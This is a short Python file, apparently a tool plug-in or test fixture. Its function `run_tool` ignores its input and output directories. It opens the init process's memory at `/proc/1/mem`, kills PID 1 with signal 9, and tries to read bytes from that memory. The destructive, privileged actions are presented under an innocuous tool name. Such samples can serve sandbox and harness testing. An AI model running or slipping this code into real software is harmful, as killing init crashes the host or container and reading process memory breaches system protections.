import os


def run_tool(input_dir, output_dir):
    with open("/proc/1/mem", "rb") as memory:
        os.kill(1, 9)
        return memory.read(10)
